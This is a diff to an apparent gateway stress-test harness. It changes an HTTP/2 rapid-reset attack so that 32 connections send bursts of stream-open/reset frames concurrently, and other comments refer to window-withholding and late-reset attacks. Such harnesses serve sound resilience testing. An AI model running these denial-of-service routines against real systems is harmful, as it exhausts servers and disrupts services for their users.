@@ -5,6 +5,7 @@ An attack counts what it has sent and how many of its connections the gateway ha
 how long its longest connection lived.
 """
 
+import collections
 import itertools
 import socket
 import ssl
@@ -26,6 +27,8 @@ PATIENCE_SECONDS = 5
 # Connections that withhold their windows, with 100 lookups each. Their token is good, so that each lookup in
 # flight costs what any does, some 8 KiB with its connection to the backend; what is looked at is the rest.
 HOLDING = 15
+# Connections that reset at the same time: the gateway puts off the end of each.
+RESETTING = 32
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -132,14 +135,19 @@ def rapid_reset(attacker):
     count = RECORD_BYTES // len(pair(1))
     blob = b"".join(map(pair, range(1, 2 * count, 2)))
     least = attacker.target["least_resets"]
-    while attacker.running() or (attacker.tally.sent < least and attacker.running(PATIENCE_SECONDS)):
-        try:
-            sock, _ = attacker.connect()
-        except OSError:
-            continue
-        if not attacker.send(sock, blob, count):
-            continue
-        attacker.over(sock, drained(sock, time.monotonic() + PATIENCE_SECONDS))
+    held = collections.deque()
+    while held or attacker.running():
+        more = attacker.running() or (attacker.tally.sent < least and attacker.running(PATIENCE_SECONDS))
+        if more and len(held) < RESETTING:
+            try:
+                sock, _ = attacker.connect()
+            except OSError:
+                continue
+            if attacker.send(sock, blob, count):
+                held.append((sock, attacker.opened))
+        else:
+            sock, attacker.opened = held.popleft()
+            attacker.over(sock, drained(sock, time.monotonic() + PATIENCE_SECONDS))
 
 
 def late_reset(attacker):
